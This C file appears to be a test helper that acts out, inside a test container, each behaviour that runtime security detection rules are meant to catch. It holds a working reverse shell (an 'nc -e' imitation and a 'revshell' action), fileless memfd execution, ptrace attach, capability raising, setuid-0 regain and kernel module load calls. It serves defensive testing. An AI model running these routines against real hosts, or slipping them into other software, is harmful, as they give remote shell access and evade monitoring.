/* rules_actions.c - the attacker's side of tests/e2e/rules-default.sh: one static program that does, inside a test container, the one thing each default runtime rule must see. */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>
#include <linux/capability.h>

/*
 * Usage: rules_actions ACTION [ARGS]; also run under the name nc (nc HOST PORT -e PROG, the
 * reverse shell). Exit 0 when the action was attempted as intended (a refused module load or
 * failed mount still counts: the rule is about the attempt), 2 on a usage error, 1 otherwise.
 * `serve PORT...` is the peer: it accepts on every port, answers a shell with "exit", closes.
 */

static int tcp_connect(const char *ip, int port)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons((unsigned short)port) };
	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0 || inet_pton(AF_INET, ip, &sa.sin_addr) != 1)
		return -1;
	if (connect(s, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		close(s);
		return -1;
	}
	return s;
}

static int tcp_listen(int port)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons((unsigned short)port) };
	int one = 1, s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0)
		return -1;
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(s, 16) < 0) {
		close(s);
		return -1;
	}
	return s;
}

/* A child with stdio on a connection to HOST:PORT runs PROG (argv[0] its base name, no arguments). */
static int on_connection(const char *ip, int port, const char *prog)
{
	int s = tcp_connect(ip, port);
	if (s < 0)
		return 1;
	pid_t p = fork();
	if (p == 0) {
		dup2(s, 0), dup2(s, 1), dup2(s, 2);
		const char *base = strrchr(prog, '/');
		execl(prog, base ? base + 1 : prog, (char *)NULL);
		_exit(127);
	}
	int st = 0;
	waitpid(p, &st, 0);
	return 0;
}

/* nc HOST PORT -e PROG, as ncat --sh-exec does. */
static int nc_main(int argc, char **argv)
{
	if (argc != 5 || strcmp(argv[3], "-e"))
		return 2;
	return on_connection(argv[1], atoi(argv[2]), argv[4]);
}

static int serve(int argc, char **argv)
{
	int fds[8], n = 0;
	for (int i = 2; i < argc && n < 8; i++)
		if ((fds[n] = tcp_listen(atoi(argv[i]))) >= 0)
			n++;
	if (n == 0)
		return 1;
	for (;;) {
		fd_set rs;
		int mx = 0;
		FD_ZERO(&rs);
		for (int i = 0; i < n; i++) {
			FD_SET(fds[i], &rs);
			if (fds[i] > mx)
				mx = fds[i];
		}
		if (select(mx + 1, &rs, NULL, NULL, NULL) < 0)
			continue;
		for (int i = 0; i < n; i++) {
			if (!FD_ISSET(fds[i], &rs))
				continue;
			int c = accept(fds[i], NULL, NULL);
			if (c < 0)
				continue;
			/* a reverse shell reads this and leaves; anything else just sees the close */
			(void)!write(c, "exit\n", 5);
			usleep(200000);
			close(c);
		}
	}
}

static int file_write(const char *path)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (fd < 0)
		return 1;
	(void)!write(fd, "x\n", 2);
	close(fd);
	return 0;
}

static int file_read(const char *path)
{
	char b[256];
	int fd = open(path, O_RDONLY);
	if (fd < 0)
		return 1;
	(void)!read(fd, b, sizeof(b));
	close(fd);
	return 0;
}

/* Executes a copy of this program from a memfd: no file on disk. */
static int memfd_exec(void)
{
	char b[65536];
	ssize_t n;
	int in = open("/proc/self/exe", O_RDONLY), fd = (int)syscall(SYS_memfd_create, "payload", 0);
	if (in < 0 || fd < 0)
		return 1;
	while ((n = read(in, b, sizeof(b))) > 0)
		if (write(fd, b, (size_t)n) != n)
			return 1;
	close(in);
	char *av[] = { "payload", "nop", NULL }, *ev[] = { NULL };
	pid_t p = fork();
	if (p == 0) {
		fexecve(fd, av, ev);
		_exit(127);
	}
	int st = 0;
	waitpid(p, &st, 0);
	return WIFEXITED(st) && WEXITSTATUS(st) == 0 ? 0 : 1;
}

/* Attaches to a child of its own (allowed without CAP_SYS_PTRACE), then lets it go. */
static int ptrace_attach(void)
{
	pid_t c = fork();
	if (c == 0) {
		pause();
		_exit(0);
	}
	int st = 0, r = ptrace(PTRACE_ATTACH, c, NULL, NULL);
	if (r == 0) {
		waitpid(c, &st, 0);
		ptrace(PTRACE_DETACH, c, NULL, NULL);
	}
	kill(c, SIGKILL);
	waitpid(c, &st, 0);
	return r == 0 ? 0 : 1;
}

/* Raises the effective set to the whole permitted set (it was lowered first, as an exploit's payload would find it). */
static int cap_raise(void)
{
	struct __user_cap_header_struct h = { .version = _LINUX_CAPABILITY_VERSION_3, .pid = 0 };
	struct __user_cap_data_struct d[2];
	if (syscall(SYS_capget, &h, d))
		return 1;
	d[0].effective = d[0].permitted;
	d[1].effective = d[1].permitted;
	return syscall(SYS_capset, &h, d) ? 1 : 0;
}

/* root -> uid 1000 keeping saved uid 0, then back to 0: succeeds without CAP_SETUID. */
static int setuid0(void)
{
	if (setresuid(1000, 1000, 0))
		return 1;
	return setuid(0) ? 1 : 0;
}

static int unix_connect(const char *path)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	int s = socket(AF_UNIX, SOCK_STREAM, 0);
	if (s < 0 || strlen(path) >= sizeof(sa.sun_path))
		return 1;
	memcpy(sa.sun_path, path, strlen(path) + 1);
	int r = connect(s, (struct sockaddr *)&sa, sizeof(sa));
	close(s);
	return r ? 1 : 0;
}

int main(int argc, char **argv)
{
	const char *me = strrchr(argv[0], '/');
	me = me ? me + 1 : argv[0];
	if (!strcmp(me, "nc"))
		return nc_main(argc, argv);
	if (argc < 2)
		return 2;
	const char *a = argv[1], *x = argc > 2 ? argv[2] : "";
	if (!strcmp(a, "nop"))
		return 0;
	if (!strcmp(a, "serve"))
		return serve(argc, argv);
	if (!strcmp(a, "write"))
		return file_write(x);
	if (!strcmp(a, "read"))
		return file_read(x);
	if (!strcmp(a, "connect") && argc == 4) {
		int s = tcp_connect(x, atoi(argv[3]));
		if (s >= 0)
			close(s);
		return s >= 0 ? 0 : 1;
	}
	/* revshell HOST PORT: a shell on a connection with no telltale command line (what a Python or C
	 * one-liner does after dup2): only the sensor's look at fds 0 and 1 tells it */
	if (!strcmp(a, "revshell") && argc == 4)
		return on_connection(x, atoi(argv[3]), "/bin/sh");
	if (!strcmp(a, "listen")) {
		int s = tcp_listen(atoi(x));
		if (s >= 0)
			usleep(300000), close(s);
		return s >= 0 ? 0 : 1;
	}
	if (!strcmp(a, "unix-connect"))
		return unix_connect(x);
	if (!strcmp(a, "memfd"))
		return memfd_exec();
	if (!strcmp(a, "ptrace"))
		return ptrace_attach();
	if (!strcmp(a, "capset"))
		return cap_raise();
	if (!strcmp(a, "setuid0"))
		return setuid0();
	if (!strcmp(a, "setuid0-fail"))
		return setuid(0) ? 0 : 1; /* run as a non-root user: refused (EPERM) */
	if (!strcmp(a, "mount"))
		return mount("none", x, "tmpfs", 0, "size=1m") ? 1 : 0;
	if (!strcmp(a, "unshare"))
		return unshare(CLONE_NEWUTS) ? 1 : 0;
	if (!strcmp(a, "setns")) {
		int fd = open("/proc/self/ns/uts", O_RDONLY);
		return fd >= 0 && setns(fd, CLONE_NEWUTS) == 0 ? 0 : 1;
	}
	if (!strcmp(a, "module")) {
		/* a refusal (EPERM, ENOSYS without module support) is expected; the call is what counts */
		long r1 = syscall(SYS_init_module, "", 0UL, "");
		int fd = open("/dev/null", O_RDONLY);
		long r2 = syscall(SYS_finit_module, fd, "", 0);
		printf("init_module %ld (%s), finit_module %ld\n", r1, strerror(errno), r2);
		return 0;
	}
	return 2;
}
